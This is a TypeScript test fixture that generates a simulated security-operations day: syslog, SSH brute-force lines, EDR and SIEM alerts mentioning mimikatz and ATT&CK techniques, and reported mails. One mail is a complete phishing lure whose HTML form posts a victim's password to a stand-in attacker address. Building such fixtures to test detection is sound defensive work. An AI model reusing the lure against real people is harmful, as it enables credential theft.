import { cefLine } from "../../src/redteam/records/cef.ts";
import { type Chance, openChance } from "../../src/redteam/records/chance.ts";
import { mailText } from "../../src/redteam/records/mail.ts";
import { structuredLine } from "../../src/redteam/records/syslog.ts";
import { hourMs, minuteMs, secondMs } from "../../src/redteam/records/time.ts";

/** Whom the day is about, and where they sit: one of them has more rights than others, and her account is taken. */
export const cast = {
  victim: { name: "mara", host: "ws-mara", address: "192.0.2.10", mail: "mara@example.test" },
  other: { name: "joss", host: "ws-joss", address: "192.0.2.11", mail: "joss@example.test" },
  abuse: "abuse@example.test",
  attacker: "203.0.113.66",
} as const;

/** What some of the products say, in their own forms. */
export type Traffic = {
  /** RFC 5424 lines with CEF and with what sshd says, for syslog-ng to pass on. */
  readonly syslog: readonly string[];
  /** Alerts of an endpoint product that arrive on a bus, each one JSON document; and what is none. */
  readonly bus: readonly string[];
  /** Whole mails to the abuse mailbox. */
  readonly mails: readonly string[];
  /** What the SIEM's rules found: the time of each, and its fields beside the usual ones. */
  readonly siem: readonly { readonly timeMs: number; readonly fields: Readonly<Record<string, unknown>> }[];
  /** When somebody behind the sensor asked a foreign server to run a command. */
  readonly attacksMs: readonly number[];
};

/** An ordinary morning, a mail that somebody falls for, and what was done with her password. */
export type Day = { readonly morning: Traffic; readonly lure: Traffic; readonly abuse: Traffic };

/** How many ordinary lines the firewall and the servers say. */
export const ordinaryLines = 400;

/** The day that ends at `endMs`; the same seed and end give the same bytes. */
export function socDay(endMs: number, seed: number): Day {
  const chance = openChance(String(seed));
  const attackMs = endMs - 40 * minuteMs;
  const ordinary = Array.from({ length: ordinaryLines }, (_, index) => ordinaryLine(endMs - 9 * hourMs, index, chance));
  return {
    morning: {
      syslog: ordinary,
      bus: ['{"alert":1,"id":', ...updates(attackMs)],
      mails: [reportedNewsletter(attackMs - 2 * hourMs)],
      siem: [],
      attacksMs: [],
    },
    lure: {
      syslog: signIns(attackMs + 6 * minuteMs),
      bus: [],
      mails: [reportedLure(attackMs)],
      siem: [],
      attacksMs: [attackMs + 15 * minuteMs],
    },
    abuse: { syslog: [], bus: endpointAlerts(attackMs), mails: [], siem: siemAlerts(attackMs), attacksMs: [attackMs + 16 * minuteMs] },
  };
}

function ordinaryLine(fromMs: number, index: number, chance: Chance): string {
  const timeMs = fromMs + index * 75 * secondMs;
  const { name, address } = index % 2 === 0 ? cast.victim : cast.other;
  if (index % 10 === 0) return sshLine(timeMs, `Accepted publickey for ${name} from ${address} port ${40_000 + index} ssh2`);
  return firewallLine(timeMs, {
    signature: "100",
    name: "Connection allowed",
    severity: 1,
    extension: {
      rt: timeMs,
      act: "allowed",
      src: address,
      spt: 40_000 + index,
      dst: `198.51.100.${chance.integer(100, 140)}`,
      dpt: 443,
      proto: "TCP",
    },
  });
}

/** Passwords are tried from outside until one is taken: the one that was typed into the lure. */
function signIns(fromMs: number): string[] {
  const { name } = cast.victim;
  const failed = Array.from({ length: 12 }, (_, index) =>
    sshLine(fromMs + index * 4 * secondMs, `Failed password for ${name} from ${cast.attacker} port ${50_000 + index} ssh2`),
  );
  return [...failed, sshLine(fromMs + minuteMs, `Accepted password for ${name} from ${cast.attacker} port 50100 ssh2`)];
}

const sshLine = (timeMs: number, message: string) =>
  structuredLine(timeMs, { priority: 86, host: "vpn01", program: "sshd", processId: 812, messageId: "-", data: {}, message }).replace(
    "[session@32473 ]",
    "-",
  );

const firewallLine = (timeMs: number, more: Pick<Parameters<typeof cefLine>[0], "signature" | "name" | "severity" | "extension">) =>
  structuredLine(timeMs, {
    priority: 134,
    host: "fw01",
    program: "fw",
    processId: 1,
    messageId: "-",
    data: {},
    message: cefLine({ vendor: "Example", product: "Firewall", version: "1.0", ...more }),
  }).replace("[session@32473 ]", "-");

const iso = (timeMs: number) => new Date(timeMs).toISOString();

const alert = (id: string, timeMs: number, more: object) => JSON.stringify({ alert: 1, id, time: iso(timeMs), source: "edr", ...more });

const updates = (attackMs: number): string[] =>
  Array.from({ length: 6 }, (_, index) =>
    alert(`edr-low-${index}`, attackMs - (6 - index) * hourMs, {
      title: "Agent could not fetch its update",
      severity: "informational",
      host: cast.other.host,
      observables: [],
    }),
  );

function endpointAlerts(attackMs: number): string[] {
  const { name, host } = cast.victim;
  const observables = [{ type: "ip", value: cast.attacker, role: "source" }];
  return [
    alert("edr-1", attackMs + 12 * minuteMs, {
      title: "Credential dumping tool started",
      description: "credential dumping tool mimikatz run",
      severity: "critical",
      techniques: ["T1003.001"],
      host,
      user: name,
      observables,
    }),
    alert("edr-2", attackMs + 14 * minuteMs, {
      title: "SSH brute force then login",
      description: "many failed passwords, then one that was taken",
      severity: "high",
      techniques: ["T1110"],
      host,
      user: name,
      observables,
    }),
  ];
}

function siemAlerts(attackMs: number): Traffic["siem"] {
  const { name, host } = cast.victim;
  const common = { host: { name: host }, user: { name }, source: { ip: cast.attacker } };
  return [
    {
      timeMs: attackMs + 9 * minuteMs,
      fields: {
        ...common,
        "kibana.alert.rule.name": "Sign-in with a stolen password from an unusual address",
        "kibana.alert.rule.threat": [threat("TA0001", "Initial Access", "T1078", "Valid Accounts")],
      },
    },
    {
      timeMs: attackMs + 13 * minuteMs,
      fields: {
        ...common,
        "kibana.alert.rule.name": "LSASS memory read by an unsigned program",
        "kibana.alert.severity": "critical",
        "kibana.alert.rule.threat": [threat("TA0006", "Credential Access", "T1003", "OS Credential Dumping")],
      },
    },
  ];
}

const threat = (tactic: string, tacticName: string, technique: string, techniqueName: string) => ({
  framework: "MITRE ATT&CK",
  tactic: { id: tactic, name: tacticName, reference: `https://attack.mitre.org/tactics/${tactic}/` },
  technique: [{ id: technique, name: techniqueName, reference: `https://attack.mitre.org/techniques/${technique}/` }],
});

/** The button "report" of a mail program hands the mail on as it came (RFC 5322, 3.6.6). */
function reportedLure(sentMs: number): string {
  return mailText({
    from: '"IT Service Desk" <service@accounts-portal.test>',
    to: [cast.victim.mail],
    subject: "Your password expires today - verify your account now",
    messageId: "<lure-1@accounts-portal.test>",
    headers: [
      ["Resent-From", cast.victim.mail],
      ["Resent-To", cast.abuse],
      ["Resent-Date", mailDate(sentMs + 30 * minuteMs)],
    ],
    sentMs,
    received: [
      `from mail.accounts-portal.test (mail.accounts-portal.test [${cast.attacker}]) by mx.example.test with ESMTP id 1; ${new Date(sentMs).toUTCString()}`,
    ],
    authentication: "mx.example.test; spf=fail smtp.mailfrom=accounts-portal.test; dkim=none; dmarc=fail header.from=accounts-portal.test",
    text: `Dear user,\n\nyour password expires today. Verify your account within 24 hours or it will be suspended:\n\nhttp://${cast.attacker}/verify?user=${cast.victim.name}\n\nIT Service Desk`,
    html: `<p>Dear user,</p><p>your password expires today. Verify your account within 24 hours or it will be suspended:</p><p><a href="http://${cast.attacker}/verify?user=${cast.victim.name}">https://portal.example.test/password</a></p><form action="http://${cast.attacker}/take"><input type="password" name="password"></form><p>IT Service Desk</p>`,
  });
}

function reportedNewsletter(sentMs: number): string {
  const newsletter = mailText({
    from: '"Example Gardening Club" <news@example.org>',
    to: [cast.other.mail],
    subject: "Minutes of our meeting in October",
    messageId: "<minutes-10@example.org>",
    sentMs,
    received: [
      `from mail.example.org (mail.example.org [198.51.100.25]) by mx.example.test with ESMTPS id 2; ${new Date(sentMs).toUTCString()}`,
    ],
    authentication:
      "mx.example.test; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org",
    text: "Hello Joss,\n\nhere are the minutes of our meeting in October. The roses did well this year.\n\nSee you next month\nAda",
  });
  return forwarded("two", cast.other.mail, sentMs + 5 * minuteMs, "Not sure about this one", newsletter);
}

const mailDate = (timeMs: number) => new Date(timeMs).toUTCString().replace("GMT", "+0000");

/** A mail that somebody hands on as an attachment, as people are asked to. */
function forwarded(id: string, from: string, sentMs: number, subject: string, reported: string): string {
  const boundary = `=_report_${id}`;
  return [
    `From: ${from}`,
    `To: ${cast.abuse}`,
    `Subject: ${subject}`,
    `Date: ${mailDate(sentMs)}`,
    `Message-ID: <report-${id}@example.test>`,
    "MIME-Version: 1.0",
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    "",
    `--${boundary}`,
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Please have a look.",
    `--${boundary}`,
    "Content-Type: message/rfc822",
    "Content-Disposition: attachment",
    "",
    reported,
    `--${boundary}--`,
    "",
  ].join("\r\n");
}
